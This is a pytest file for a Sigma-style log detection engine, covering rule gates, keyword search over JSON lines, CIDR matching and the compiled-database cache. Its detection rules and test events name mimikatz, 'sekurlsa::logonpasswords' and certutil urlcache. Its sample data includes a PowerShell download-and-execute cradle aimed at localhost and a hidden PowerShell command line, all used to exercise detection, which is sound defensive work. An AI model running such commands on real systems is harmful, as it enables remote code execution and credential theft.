"""Engine behaviour beyond single modifiers: order, logsource groups, gates and their fallbacks,
undecodable text, keyword gates on an event's JSON text, emit=False rules, use after fork."""

from __future__ import annotations

import multiprocessing
import re
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import secaudit.detect.engine as engine_module
from secaudit.core.events import LogEvent, LogKind
from secaudit.detect import _gates
from secaudit.detect.engine import Engine, lowered
from secaudit.detect.loader import RuleSet

from .helpers import both, event, load_text, rule_text

A = "aaaaaaaa-0000-4000-8000-000000000001"
B = "bbbbbbbb-0000-4000-8000-000000000002"
C = "cccccccc-0000-4000-8000-000000000003"
FILE_EVENT = LogKind("windows", frozenset({"file_event"}), frozenset({"sysmon"}))
SYSMON = LogKind("windows", frozenset({"process_creation"}), frozenset({"sysmon"}))


def three_rules(tmp_path: Path) -> RuleSet:
    text = (
        rule_text("sel:\n  CommandLine|contains: 'mimikatz'\ncondition: sel", rule_id=A)
        + "---\n"
        + rule_text("sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel", rule_id=B)
        + "---\n"
        + rule_text("sel:\n  CommandLine|re: 'm[i1]m[i1]katz'\ncondition: sel", rule_id=C).replace(
            "category: process_creation", "category: file_event"
        )
    )
    return load_text(tmp_path, text)


EVENTS = [
    {"Image": "C:\\x\\cmd.exe", "CommandLine": "cmd /c mimikatz"},
    {"Image": "C:\\x\\notepad.exe", "CommandLine": "notepad"},
    {"Image": "C:\\x\\CMD.EXE", "CommandLine": "MIMIKATZ"},
]


def test_hits_come_in_event_order_then_rule_order(tmp_path: Path) -> None:
    ruleset = three_rules(tmp_path)
    hits = list(Engine(ruleset).match([event(f, record=i) for i, f in enumerate(EVENTS, start=1)]))
    assert [(h.event.record, h.rule.id) for h in hits] == [(1, A), (1, B), (3, A), (3, B)]
    assert hits[0].matched_fields == {"CommandLine": "cmd /c mimikatz"}
    assert hits[1].matched_fields == {"Image": "C:\\x\\cmd.exe"}


def test_a_rule_only_sees_its_logsource(tmp_path: Path) -> None:
    ruleset = three_rules(tmp_path)
    engine = Engine(ruleset)
    fields = {"Image": "C:\\x\\cmd.exe", "CommandLine": "m1mikatz"}
    assert [h.rule.id for h in engine.match([event(fields)])] == [B]
    assert [h.rule.id for h in engine.match([event(fields, kind=FILE_EVENT)])] == [C]
    assert list(engine.match([event(fields, kind=LogKind("linux"))])) == []


def test_kinds_selecting_the_same_rules_share_one_group(tmp_path: Path) -> None:
    engine = Engine(three_rules(tmp_path))
    fields = {"Image": "C:\\x\\cmd.exe"}
    kinds = [LogKind("windows", frozenset({"process_creation"}), frozenset({f"svc{n}"})) for n in range(50)]
    assert [[h.rule.id for h in engine.match([event(fields, kind=k)])] for k in kinds] == [[B]] * 50
    assert len({id(g) for g in engine._groups.values()}) == 1
    assert len(engine._groups) == 50


def test_gates_let_through_only_candidates(tmp_path: Path) -> None:
    ruleset = three_rules(tmp_path)
    engine = Engine(ruleset)
    assert engine.candidates(event({"Image": "C:\\x\\notepad.exe", "CommandLine": "notepad"})) == []
    assert engine.candidates(event({"Image": "C:\\x\\cmd.exe", "CommandLine": "x"})) == [1]
    # the regex rule's gate is its literal run "katz"
    assert engine.candidates(event({"CommandLine": "KATZ"}, kind=FILE_EVENT)) == [2]


def test_undecodable_text_is_matched_too(tmp_path: Path) -> None:
    ruleset = three_rules(tmp_path)
    fields = {"Image": "C:\\x\\cmd.exe", "CommandLine": "mimikatz \udcff"}  # a lone surrogate
    hits = Engine(ruleset).match([event(fields), event(fields, kind=FILE_EVENT, record=2)])
    assert [(h.event.record, h.rule.id) for h in hits] == [(1, A), (1, B), (2, C)]


def test_values_holding_nul_and_lists_are_lowered_one_by_one() -> None:
    low, hay = lowered({"A": "X\x00Y", "B": ["Q", None, 3], "C": None, "D": True})
    assert low == {"A": "x\x00y", "B": ("q", "3"), "D": "true"}
    assert hay.endswith("x\x00y\x00q\x003\x00true")


def _match_in_child(engine: Engine, fields: dict[str, object], out: Any) -> None:
    out.put([h.rule.id for h in engine.match([event(fields)])])


def test_engine_built_before_fork_works_in_the_child(tmp_path: Path) -> None:
    engine = Engine(three_rules(tmp_path))
    ctx = multiprocessing.get_context("fork")
    queue = ctx.Queue()
    child = ctx.Process(target=_match_in_child, args=(engine, EVENTS[0], queue))
    child.start()
    result = queue.get(timeout=60)
    child.join(timeout=60)
    assert child.exitcode == 0
    assert result == [A, B]


def test_field_gates_read_only_named_fields_and_keyword_gates_read_all(tmp_path: Path) -> None:
    kw = "dddddddd-0000-4000-8000-000000000004"
    text = (
        rule_text("sel:\n  CommandLine|contains: 'mimikatz'\ncondition: sel", rule_id=A)
        + "---\n"
        + rule_text("keywords:\n  - 'sekurlsa::'\ncondition: keywords", rule_id=kw)
    )
    engine = Engine(load_text(tmp_path, text))
    # a field no rule names (a long rendered Message) is not lowered into the field rules' haystack
    quiet = {"CommandLine": "notepad", "Message": "Mimikatz was mentioned here"}
    assert engine.candidates(event(quiet)) == []
    # ... but a keyword rule searches every value, that field included
    loud = {"CommandLine": "notepad", "Message": "ran SEKURLSA::logonpasswords", "Count": 3}
    assert [h.rule.id for h in engine.match([event(loud)])] == [kw]
    both = {**loud, "CommandLine": "MIMIKATZ", "X": None}
    assert [h.rule.id for h in engine.match([event(both)])] == [A, kw]
    # a keyword value inside a list, and a name with a space read as the rules' view of the fields
    listed = {"CommandLine": ["a", "x sekurlsa::y"], "Thread Name": "mimikatz"}
    assert [h.rule.id for h in engine.match([event(listed)])] == [kw]


def test_field_name_sets_remembered_per_group_are_bounded(tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.setattr(engine_module, "MAX_SHAPES", 8)
    engine = Engine(three_rules(tmp_path))
    events = [event({f"F{n}": "x", "CommandLine": "mimikatz"}, record=n) for n in range(50)]
    assert [h.event.record for h in engine.match(events)] == list(range(50))
    assert all(len(g.shapes) <= 8 for g in engine._groups.values())


def test_a_second_gate_rules_out_events_the_first_one_lets_through(tmp_path: Path) -> None:
    # Initiated is a flag and LogonType a number: both weak gates; the program name decides first,
    # and the command line is the second gate
    text = rule_text(
        "sel:\n  Image|endswith: '\\certutil.exe'\n  CommandLine|contains: 'urlcache'\n"
        "  Initiated: 'true'\n  LogonType: 3\ncondition: sel"
    )
    ruleset = load_text(tmp_path, text)
    plan = ruleset.plans[0]
    assert plan.gate == (frozenset({"\\certutil.exe"}), frozenset())
    assert plan.second == (frozenset({"urlcache"}), frozenset())
    engine = Engine(ruleset)
    full = {"Image": "C:\\W\\CertUtil.exe", "CommandLine": "certutil -URLcache -f x", "Initiated": "true"}
    assert engine.candidates(event({**full, "LogonType": 3})) == [0]
    assert engine.candidates(event({**full, "CommandLine": "certutil -dump"})) == []  # the second fails
    assert engine.candidates(event({**full, "Image": "C:\\x.exe"})) == []  # the first fails
    events = [
        event({**full, "LogonType": 3}, record=1),
        event({**full, "LogonType": "3", "CommandLine": "certutil -dump"}, record=2),
        event({**full, "LogonType": 2}, record=3),
    ]
    assert both(ruleset, events) == {(plan.info.id, 1)}


def test_an_or_of_selections_has_the_union_of_their_second_gates(tmp_path: Path) -> None:
    """'1 of selection_*' with a filter: the first gate is the union of the branches' firsts, the
    second the union of their seconds, each avoiding the other branches' firsts ('new-object' is the
    first of one branch: as another's second, every event that passed on it would pass again)."""
    text = rule_text(
        "sel_a:\n  ScriptBlockText|contains|all: ['iex', 'New-Object', 'Net.WebClient', '.Download']\n"
        "sel_b:\n  ScriptBlockText|contains|all: [' -w ', 'hidden', '-noni', 'New-Object']\n"
        "filter:\n  ScriptBlockText|contains: 'chocolatey'\n"
        "condition: 1 of sel_* and not filter"
    )
    ruleset = load_text(tmp_path, text)
    plan = ruleset.plans[0]
    assert plan.gate == (frozenset({"net.webclient", "new-object"}), frozenset())
    assert plan.second == (frozenset({".download", "hidden"}), frozenset())
    engine = Engine(ruleset)
    benign = "$x = New-Object System.Collections.ArrayList; Import-Module Reports"
    assert engine.candidates(event({"ScriptBlockText": benign})) == []  # passes the first, not the second
    loud = "iex (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')"
    hidden = "powershell -noni -w hidden -c New-Object Foo"
    events = [
        event({"ScriptBlockText": benign}, record=1),
        event({"ScriptBlockText": loud}, record=2),
        event({"ScriptBlockText": hidden}, record=3),
        event({"ScriptBlockText": loud + " chocolatey"}, record=4),
        event({"ScriptBlockText": "New-Object hidden"}, record=5),  # passes both gates, not the rule
    ]
    assert engine.candidates(events[4]) == [0]
    assert both(ruleset, events) == {(plan.info.id, 2), (plan.info.id, 3)}


def test_an_or_whose_branch_has_no_second_gate_has_none(tmp_path: Path) -> None:
    text = rule_text(
        "sel_a:\n  CommandLine|contains|all: ['certutil', 'urlcache']\n"
        "sel_b:\n  CommandLine|contains: 'bitsadmin'\n"
        "condition: 1 of sel_*"
    )
    plan = load_text(tmp_path, text).plans[0]
    assert plan.gate == (frozenset({"certutil", "bitsadmin"}), frozenset())
    assert plan.second is None  # sel_b is one test: an event may match it on its first gate alone


def test_a_second_gate_of_a_keyword_rule_reads_all_values(tmp_path: Path) -> None:
    text = rule_text(
        "kw:\n  - 'invoke-mimikatz'\nsel:\n  Image|endswith: '\\pwsh.exe'\ncondition: kw and sel"
    )
    ruleset = load_text(tmp_path, text)
    assert ruleset.plans[0].second is not None
    fields = {"Image": "C:\\p\\pwsh.exe", "Payload": "x Invoke-Mimikatz y"}
    assert both(ruleset, [event(fields)]) == {(ruleset.plans[0].info.id, 1)}


def test_a_list_of_networks_on_one_field_is_one_test_with_the_same_answers(tmp_path: Path) -> None:
    text = rule_text(
        "sel:\n  IpAddress|cidr:\n    - '10.0.0.0/8'\n    - '192.168.0.0/16'\n    - 'fe80::/10'\n"
        "    - '127.0.0.1/32'\ncondition: not sel"
    )
    ruleset = load_text(tmp_path, text)
    values: list[object] = [
        "10.1.2.3", "11.0.0.1", "192.168.255.255", "192.169.0.0", " 127.0.0.1 ", "127.0.0.2",
        "fe80::1%eth0", "[fe80::1]", "fec0::1", "::ffff:10.0.0.1", "not an address", "", 3,
        ["8.8.8.8", "192.168.1.1"], ["8.8.8.8"], None,
    ]  # fmt: skip
    events = [event({"IpAddress": v}, record=i) for i, v in enumerate(values, start=1)]
    events.append(event({}, record=len(values) + 1))
    outside = {record for _, record in both(ruleset, events)}
    assert outside == {2, 4, 6, 9, 10, 11, 12, 13, 15, 16, 17}


def test_a_keyword_rule_whose_second_gate_is_a_short_word_has_the_values_to_search(tmp_path: Path) -> None:
    # Alone in its group, the rule's first gate is the ParentImage value; its second gate, the
    # keyword "id", must be searched in all values although no first gate needs that haystack
    text = rule_text("kw:\n  - 'id'\nsel:\n  ParentImage: 'C:\\p\\x.exe'\ncondition: kw and sel")
    ruleset = load_text(tmp_path, text)
    plan = ruleset.plans[0]
    assert plan.gate == (frozenset(), frozenset({("ParentImage", "c:\\p\\x.exe")}))
    assert plan.second == (frozenset({"id"}), frozenset())
    fields = {"ParentImage": "C:\\P\\X.EXE", "CommandLine": "run --ID 7"}
    assert both(ruleset, [event(fields), event({**fields, "CommandLine": "run"}, record=2)]) == {
        (plan.info.id, 1)
    }


def _keyword_rule(tmp_path: Path, *keywords: str) -> RuleSet:
    listed = "".join(f"  - '{k}'\n" for k in keywords)
    return load_text(tmp_path, rule_text(f"keywords:\n{listed}condition: keywords", rule_id=A))


def test_keyword_gates_search_a_plain_json_line_and_read_the_values_of_any_other(tmp_path: Path) -> None:
    engine = Engine(_keyword_rule(tmp_path, "sekurlsa::"))
    calm = {"CommandLine": "notepad"}
    # a plain line (ASCII, an escaped backslash before u is no \u escape) is searched as it is: a
    # line that says more than the values lets the rule through, and the exact test decides
    loud_line = b'{"CommandLine":"C:\\\\users\\\\SEKURLSA::x"}\n'
    assert engine.candidates(LogEvent(calm, SYSMON, "t", 1, None, loud_line)) == [0]
    assert list(engine.match([LogEvent(calm, SYSMON, "t", 1, None, loud_line)])) == []
    # a line with a non-ASCII byte, a \u or a \/ escape may not show a value as it is: the values
    # are read instead (here they say nothing)
    for line in (
        b'{"CommandLine":"\xc3\xa9 sekurlsa::"}',
        b'{"CommandLine":"\\u00e9 sekurlsa::"}',
        b'{"CommandLine":"\\\\\\u0041 sekurlsa::"}',
        b'{"CommandLine":"a\\/b sekurlsa::"}',
    ):
        assert engine.candidates(LogEvent(calm, SYSMON, "t", 1, None, line)) == [], line


@pytest.mark.parametrize(
    ("keyword", "value", "line"),
    [
        ("c:\\x\\mimilib.dll", "C:\\X\\MimiLib.DLL", b'{"A":"C:\\\\X\\\\MimiLib.DLL"}'),
        ('say "hi"', 'Say "HI"', b'{"A":"Say \\"HI\\""}'),
        ("a\tb", "A\tB", b'{"A":"A\\tB"}'),
        ("kiwi", "\u212aIWI", b'{"A":"\\u212aIWI"}'),  # the Kelvin sign lowers to an ASCII k
        ("kiwi", "\u212aIWI", '{"A":"\u212aIWI"}'.encode()),
        ("a/b", "A/B", b'{"A":"A\\/B"}'),
        ("<tag>", "<TAG>", b'{"A":"\\u003cTAG\\u003e"}'),
        ("caf\u00e9", "CAF\u00c9", b'{"A":"CAF\\u00c9"}'),
        ("4688", 4688, b'{"A":4688}'),
        ("true", True, b'{"A":true}'),
    ],
)
def test_a_keyword_is_found_however_the_json_line_writes_it(
    tmp_path: Path, keyword: str, value: object, line: bytes
) -> None:
    engine = Engine(_keyword_rule(tmp_path, keyword))
    hits = engine.match([LogEvent({"A": value}, SYSMON, "t", 1, None, line)])
    assert [h.rule.id for h in hits] == [A]


@pytest.mark.parametrize(
    ("detection", "command_line"),
    [
        # a short first gate (looked for with ``in``), ASCII and not
        ("sel:\n  CommandLine|contains: ';'\ncondition: sel", "a;b"),
        ("sel:\n  CommandLine|contains: '\u0430'\ncondition: sel", "p\u0430ypal"),  # a Cyrillic a
        # a non-ASCII literal long enough for Hyperscan: searched only in a non-ASCII haystack
        ("sel:\n  CommandLine|contains: '\u2013config'\ncondition: sel", "x \u2013CONFIG y"),
        # a short second gate: the program name lets the event through, '/q' decides
        (
            "sel:\n  Image|endswith: '\\msiexec.exe'\n  CommandLine|contains: '/q'\ncondition: sel",
            "msiexec /Q /i x.msi",
        ),
    ],
)
def test_short_and_non_ascii_gate_literals_let_their_events_through(
    tmp_path: Path, detection: str, command_line: str
) -> None:
    ruleset = load_text(tmp_path, rule_text(detection, rule_id=A))
    fields = {"Image": "C:\\Windows\\System32\\msiexec.exe", "CommandLine": command_line}
    quiet = {"Image": "C:\\Windows\\System32\\msiexec.exe", "CommandLine": "nothing here"}
    assert both(ruleset, [event(fields, record=1), event(quiet, record=2)]) == {(A, 1)}


def test_compiled_databases_are_read_back_from_the_cache_folder(tmp_path: Path, monkeypatch: Any) -> None:
    ruleset = three_rules(tmp_path)
    events = [event(f, record=i) for i, f in enumerate(EVENTS, start=1)]
    cache = tmp_path / "cache"
    expected = [(h.event.record, h.rule.id) for h in Engine(ruleset).match(events)]
    assert [(h.event.record, h.rule.id) for h in Engine(ruleset, cache_dir=cache).match(events)] == expected
    written = sorted((cache / "hyperscan").glob("*.hsdb"))
    assert written

    # a second engine loads them: compiling anything now fails the test
    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("compiled although the cache holds the database")

    real = engine_module._gates
    refusing = SimpleNamespace(
        **{name: getattr(real, name) for name in dir(real) if name[0] != "_" and name != "Database"},
        Database=SimpleNamespace(load=real.Database.load, compile=refuse),
    )
    with monkeypatch.context() as patched:
        patched.setattr(engine_module, "_gates", refusing)
        warm = Engine(ruleset, cache_dir=cache)
        assert [(h.event.record, h.rule.id) for h in warm.match(events)] == expected


def test_a_damaged_cached_database_is_compiled_again(tmp_path: Path) -> None:
    ruleset = three_rules(tmp_path)
    events = [event(f, record=i) for i, f in enumerate(EVENTS, start=1)]
    cache = tmp_path / "cache"
    expected = [(h.event.record, h.rule.id) for h in Engine(ruleset, cache_dir=cache).match(events)]
    files = sorted((cache / "hyperscan").glob("*.hsdb"))
    for n, path in enumerate(files):  # cut short, or another file's bytes
        path.write_bytes(path.read_bytes()[:100] if n % 2 == 0 else b"not a database")
    assert [(h.event.record, h.rule.id) for h in Engine(ruleset, cache_dir=cache).match(events)] == expected
    assert all(len(p.read_bytes()) > 100 for p in files)  # rewritten whole


def test_the_cache_folder_keeps_a_bounded_number_of_databases(tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.setattr(engine_module, "MAX_CACHED", 3)
    cache = tmp_path / "cache"
    for n in range(6):
        text = rule_text(f"sel:\n  CommandLine|contains: 'word{n}'\ncondition: sel", rule_id=A)
        (tmp_path / str(n)).mkdir()
        list(Engine(load_text(tmp_path / str(n), text), cache_dir=cache).match([event(EVENTS[0])]))
    assert len(list((cache / "hyperscan").glob("*.hsdb"))) == 3


def test_cidr_tests_read_each_address_text_once_and_stay_exact(tmp_path: Path) -> None:
    text = rule_text(
        "sel:\n  DestinationIp|cidr:\n    - '10.0.0.0/8'\n    - 'fd00::/8'\ncondition: sel", rule_id=A
    ).replace("category: process_creation", "category: network_connection")
    ruleset = load_text(tmp_path, text)
    kind = LogKind("windows", frozenset({"network_connection"}), frozenset({"sysmon"}))
    values = ["10.1.2.3", "11.1.2.3", "[fd00::1]", "fe80::1", "not an address", "10.1.2.3"] * 3
    events = [event({"DestinationIp": v}, record=n, kind=kind) for n, v in enumerate(values)]
    assert both(ruleset, events) == {(A, n) for n, v in enumerate(values) if v in ("10.1.2.3", "[fd00::1]")}


# What a JSON line must not hold for keyword literals to be searched in it as written: a non-ASCII
# byte, or a \u or \/ escape, that is an odd run of backslashes before u or /.
_NOT_PLAIN = re.compile(rb"[\x80-\xff]|(?:^|[^\\])(?:\\\\)*\\[u/]")


@given(
    st.integers(0, 40),
    st.lists(st.sampled_from([b"\\", b"u", b"/", b"a", b'"', b"\xc3\xa9", b"\x7f", b"\\\\"]), max_size=40),
)
def test_a_plain_json_line_is_told_as_the_definition_tells_it(padding: int, parts: list[bytes]) -> None:
    # the padding moves the parts across the 16-byte steps the check reads in
    text = b"a" * padding + b"".join(parts)
    assert _gates.plain_json(text) is (_NOT_PLAIN.search(text) is None), text


def test_plain_json_edge_cases() -> None:
    assert _gates.plain_json(b"") is True
    assert _gates.plain_json(b'{"A":"C:\\\\Users\\\\x"}') is True  # \\U: an escaped backslash, then U
    assert _gates.plain_json(b'{"A":"C:\\\\users"}') is True  # \\u: an escaped backslash, then u
    assert _gates.plain_json(b'{"A":"\\\\\\u0041"}') is False  # \\ then \u0041
    assert _gates.plain_json(b'{"A":"a\\/b"}') is False
    assert _gates.plain_json(b'{"A":"a\\\\/b"}') is True
    assert _gates.plain_json(b'{"A":"\\') is True  # a cut line: a lone \ at the end
    assert _gates.plain_json('{"A":"é"}'.encode()) is False
    assert _gates.plain_json(b"x" * 5000 + b"\x80") is False
    # a run of backslashes across a 16-byte step, its parity decided by its whole length
    for start in range(10, 20):
        for run in range(1, 40):
            for after, plain in ((b"u", run % 2 == 0), (b"/", run % 2 == 0), (b"U", True)):
                text = b"x" * start + b"\\" * run + after + b"x" * 20
                assert _gates.plain_json(text) is plain, (start, run, after)


def test_a_hyperscan_database_finds_its_expressions_and_survives_a_dump() -> None:
    """_gates.Database: literals (case-sensitive or not) and patterns, each id reported once per scan
    with SINGLEMATCH, the same after dump() and load(); what Hyperscan refuses is a ValueError."""
    once = _gates.SINGLEMATCH
    literals = _gates.Database.compile(
        [b"abc", b"a\x00b", b"Kiwi"], [7, 8, 9], [once, once, once | _gates.CASELESS], True
    )
    patterns = _gates.Database.compile([rb"x\d+y", rb"^start"], [1, 2], [once, once], False)
    for database, text, want in (
        (literals, b"abc abc a\x00b KIWI", [7, 8, 9]),
        (literals, b"ABC a b kiw", []),
        (patterns, b"start x12y x3y", [1, 2]),
        (patterns, b" start xy", []),
    ):
        for copy in (database, _gates.Database.load(database.dump())):
            hits: list[int] = []
            copy.scan(text, hits)
            assert sorted(hits) == want, (text, hits)
    with pytest.raises(ValueError, match="cannot compile expression 1"):
        _gates.Database.compile([b"ok", b"(unclosed"], [1, 2], [0, 0], False)
    with pytest.raises(ValueError, match="NUL"):
        _gates.Database.compile([b"a\x00b"], [1], [0], False)
    with pytest.raises(ValueError, match="same non-zero length"):
        _gates.Database.compile([b"a"], [1, 2], [0], True)
    with pytest.raises(ValueError, match="reading a database"):
        _gates.Database.load(literals.dump()[:40])
    with pytest.raises(TypeError):
        _gates.Database()  # type: ignore[call-arg]


def test_the_compiled_step_lowers_long_values_as_python_does(tmp_path: Path) -> None:
    """ASCII values are lowered 16 bytes at a time in C: a capital at every offset around the steps,
    runs of capitals across them, the letters next to A and Z ('@', '[', '`', '{'), and a value with
    nothing to lower (handed back as it is)."""
    engine = Engine(load_text(tmp_path, rule_text("sel:\n  CommandLine|contains: 'needle'\ncondition: sel")))
    engine.candidates(event({"CommandLine": "x"}))
    group = engine._groups[SYSMON]
    values = ["@[`{AZaz" * 6, "lower only, 0123456789 and more " * 2, "NEEDLE" * 9]
    for size in (15, 16, 17, 31, 32, 33, 47):
        for at in range(size):
            values.append("x" * at + "Q" + "x" * (size - at - 1))
            values.append("a" * at + "N" * (size - at))
    for value in values:
        fields = {"CommandLine": value, "Image": "C:\\X.EXE"}
        compiled = group.compiled.candidates(fields, None)
        assert compiled is not None
        assert compiled == engine._candidates(group, fields, None), value
        assert compiled[1]["CommandLine"] == value.lower()
        if value == value.lower():
            assert compiled[1]["CommandLine"] is value
